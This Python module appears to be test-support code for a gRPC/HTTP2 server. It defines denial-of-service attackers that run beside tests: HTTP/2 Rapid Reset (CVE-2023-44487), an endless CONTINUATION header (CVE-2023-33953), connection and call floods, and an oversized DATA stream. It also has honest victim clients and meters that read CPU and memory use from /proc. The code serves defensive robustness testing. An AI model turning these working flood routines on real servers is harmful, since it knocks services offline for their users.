"""The attacks, each as something that runs beside the test until it is stopped."""

from __future__ import annotations

import multiprocessing
import os
import pathlib
import socket
import ssl
import threading
import time
from typing import Callable

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, REMEMBERED,
                   RST_STREAM, Connection, frame, request_headers)

PATIENCE_S = 0.5  # An attacker whom nobody reads from any more begins anew.
TRIES_S = 5.0
STATUS = "/rt.v1.ClusterService/Status"


# Attackers are processes of their own, as they would have processors of their own.
PROCESSES = multiprocessing.get_context("fork")
ATTACKER_NICE = 10


class Attack:
    """Repeats `turn` in threads of a process until the end of the `with` block. A server that
    closes the connection only makes the attacker connect anew."""

    def __init__(self, turn: Callable[["Attack"], None], threads: int = 1) -> None:
        self.turn, self.threads = turn, threads
        self.over = PROCESSES.Event()
        self.counted = PROCESSES.Value("l", 0)
        self.process = PROCESSES.Process(target=self.run, daemon=True)

    @property
    def turns(self) -> int:
        return int(self.counted.value)

    def run(self) -> None:
        os.nice(ATTACKER_NICE)
        threads = [threading.Thread(target=self.repeat) for _ in range(self.threads)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def repeat(self) -> None:
        while not self.over.is_set():
            with self.counted.get_lock():
                self.counted.value += 1
            try:
                self.turn(self)
            except OSError:  # ssl.SSLError is one.
                continue

    def __enter__(self) -> "Attack":
        self.process.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self.process.join(30)
        if self.process.exitcode != 0:
            self.process.kill()
            raise AssertionError(f"the attacker ended with {self.process.exitcode}")


class Flood(Attack):
    """Holds `count` plain connections; each has sent `first`. One that is closed is replaced."""

    def __init__(self, address: str, count: int, first: bytes = b"", source: str = "",
                 drip: "Callable[[socket.socket], None] | None" = None) -> None:
        super().__init__(Flood.hold)  # type: ignore[arg-type]
        host, port = address.rsplit(":", 1)
        self.place = (host, int(port))
        self.first, self.drip, self.count, self.source = first, drip, count, source
        self.sockets: list[socket.socket] = []

    def open(self) -> socket.socket:
        one = socket.socket()
        one.settimeout(5)
        if self.source:
            one.bind((self.source, 0))
        one.connect(self.place)
        if self.first:
            one.sendall(self.first)
        one.setblocking(False)
        return one

    def is_open(self, one: socket.socket) -> bool:
        try:
            if self.drip is not None:
                self.drip(one)
            return one.recv(65536) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    def hold(self) -> None:
        kept = [one for one in self.sockets if self.is_open(one)]
        for one in set(self.sockets) - set(kept):
            one.close()
        self.sockets = kept
        while len(self.sockets) < self.count and not self.over.is_set():
            self.sockets.append(self.open())
        self.over.wait(0.05)


def client_hello() -> bytes:
    """The first message of an honest client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="rt").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def rapid_reset(address: str, context: ssl.SSLContext, threads: int = 1,
                path: str = STATUS) -> Attack:
    """CVE-2023-44487: streams that are begun and reset at once."""
    def turn(attack: Attack) -> None:
        with Connection(address, context, PATIENCE_S) as connection:
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                                  request_headers(path, indexed=True)))
            reset = b"\x00\x00\x00\x08"
            stream = 3
            while not attack.over.is_set() and stream < 0x7fff0000:
                batch = []
                for number in range(stream, stream + 2000, 2):
                    batch.append(frame(HEADERS, END_HEADERS, number, REMEMBERED))
                    batch.append(frame(RST_STREAM, 0, number, reset))
                stream += 2000
                connection.send(b"".join(batch))
    return Attack(turn, threads)


def call_flood(address: str, context: ssl.SSLContext, threads: int = 1,
               at_once: int = 200) -> Attack:
    """Honest calls, as many as the server can take."""
    def turn(attack: Attack) -> None:
        with Connection(address, context, PATIENCE_S) as connection:
            while not attack.over.is_set():
                streams = [connection.begin(STATUS) for _ in range(at_once)]
                while not all(connection.ended(stream) for stream in streams):
                    connection.take(*connection.next_frame())
                connection.statuses.clear()
                connection.windows = {0: connection.windows[0]}
    return Attack(turn, threads)


def endless_message(address: str, context: ssl.SSLContext, threads: int = 1) -> Attack:
    """A request that claims 4 GiB, sent as fast as the server takes it."""
    def turn(attack: Attack) -> None:
        with Connection(address, context, PATIENCE_S) as connection:
            stream = connection.begin(STATUS, claimed=0xffffffff)
            while not attack.over.is_set() and not connection.ended(stream):
                connection.wait_for_window(stream, FRAME_MAX)
                connection.send(frame(DATA, 0, stream, b"x" * FRAME_MAX))
    return Attack(turn, threads)


def endless_headers(address: str, context: ssl.SSLContext, after_call: bool, piece: int,
                    threads: int = 1) -> Attack:
    """CVE-2023-33953: one header field that goes on and on in CONTINUATION frames."""
    def turn(attack: Attack) -> None:
        with Connection(address, context, PATIENCE_S) as connection:
            stream = 1
            if after_call:
                connection.call(STATUS)
                stream = connection.next_stream
            # A name and a value that claims 16 MiB.
            start = b"\x00\x01a\x7f\x81\xff\xff\x07"
            connection.send(frame(HEADERS, 0, stream, start))
            more = frame(CONTINUATION, 0, stream, b"b" * piece) * max(1, 65536 // (piece + 9))
            while not attack.over.is_set():
                connection.send(more)
    return Attack(turn, threads)


class Page:
    """One request for the metrics page; the server closes the connection after its answer."""

    def __init__(self, address: str, context: ssl.SSLContext, timeout: float = 10) -> None:
        host, port = address.rsplit(":", 1)
        plain = socket.create_connection((host, int(port)), timeout=timeout)
        try:
            self.socket = context.wrap_socket(plain, server_hostname="rt")
        except BaseException:
            plain.close()
            raise

    def __enter__(self) -> "Page":
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def call(self, path: str) -> int:
        """The HTTP status."""
        self.socket.sendall(f"GET {path} HTTP/1.1\r\nHost: rt\r\n\r\n".encode())
        answer = b""
        while more := self.socket.recv(65536):
            answer += more
        if not answer.startswith(b"HTTP/1.1 "):
            raise ConnectionError("no answer")
        return int(answer.split()[1])


class Victim:
    """An honest client: one held connection and a new one each time, both asked again and again. As
    gRPC's own clients do, it connects again when its connection was closed; that takes time too."""

    def __init__(self, address: str, context: ssl.SSLContext, path: str = STATUS, status: int = 0,
                 client: type[Connection] | type[Page] = Connection) -> None:
        self.address, self.context, self.path, self.status = address, context, path, status
        self.client = client
        self.over = threading.Event()
        self.times: dict[str, list[float]] = {"held": [], "new": []}
        self.errors: list[str] = []
        self.threads = [threading.Thread(target=self.ask, args=(kind,), daemon=True)
                        for kind in self.times]

    def ask(self, kind: str) -> None:
        held: Connection | Page | None = None
        while not self.over.is_set():
            begun = time.monotonic()
            status = None
            while status is None:
                try:
                    if held is None:
                        held = self.client(self.address, self.context)
                    status = held.call(self.path)
                except OSError as error:
                    held = self.close(held)
                    if time.monotonic() - begun > TRIES_S:
                        self.errors.append(f"{kind}: {error!r}")
                        break
            self.times[kind].append(time.monotonic() - begun)
            if status not in (None, self.status):
                self.errors.append(f"{kind}: status {status}")
            if kind == "new" or self.client is Page:
                held = self.close(held)
            self.over.wait(0.05)
        self.close(held)

    @staticmethod
    def close(connection: Connection | Page | None) -> None:
        if connection is not None:
            connection.socket.close()

    def count(self) -> int:
        return sum(len(times) for times in self.times.values())

    def slowest(self) -> float:
        return max(max(times, default=99.0) for times in self.times.values())

    def usual(self) -> float:
        """The time within which three of four answers came, of the slower kind. A flood leaves few
        answers on a slow machine, and nine of ten of those would be all of them."""
        return max(sorted(times)[len(times) * 3 // 4] if times else 99.0
                   for times in self.times.values())

    def __enter__(self) -> "Victim":
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        for thread in self.threads:
            thread.join(30)


class Share:
    """How much of the machine's processors was left for a daemon, its attackers and its victims:
    1, less what all other processes used."""

    def __init__(self, pid: int) -> None:
        self.stat = pathlib.Path(f"/proc/{pid}/stat")
        self.began = self.used()

    def used(self) -> tuple[float, float, float]:
        """Seconds of processors so far: of all there are, of those in use, and of ours in use."""
        ticks = os.sysconf("SC_CLK_TCK")
        line = pathlib.Path("/proc/stat").read_text().split("\n", 1)[0]
        # user nice system idle iowait irq softirq steal
        each = [int(word) / ticks for word in line.split()[1:9]]
        daemon = self.stat.read_text().rpartition(")")[2].split()
        ours = sum(os.times()[:4]) + (int(daemon[11]) + int(daemon[12])) / ticks
        return sum(each), sum(each) - each[3] - each[4], ours

    def now(self) -> float:
        """Since the start. What attackers used counts when they have ended."""
        total, busy, ours = (now - then for now, then in zip(self.used(), self.began))
        return 1 - max(0.0, busy - ours) / max(total, 0.01)


class Memory:
    """The resident set of a process, in MB, and the most of it since the start."""

    def __init__(self, pid: int) -> None:
        self.status = pathlib.Path(f"/proc/{pid}/status")
        self.most = 0.0
        self.over = threading.Event()
        self.thread = threading.Thread(target=self.watch, daemon=True)

    def now(self) -> float:
        lines = self.status.read_text().splitlines()
        return next(int(line.split()[1]) for line in lines if line.startswith("VmRSS")) / 1024

    def watch(self) -> None:
        while not self.over.is_set():
            self.most = max(self.most, self.now())
            self.over.wait(0.02)

    def __enter__(self) -> "Memory":
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.over.set()
        self.thread.join(10)
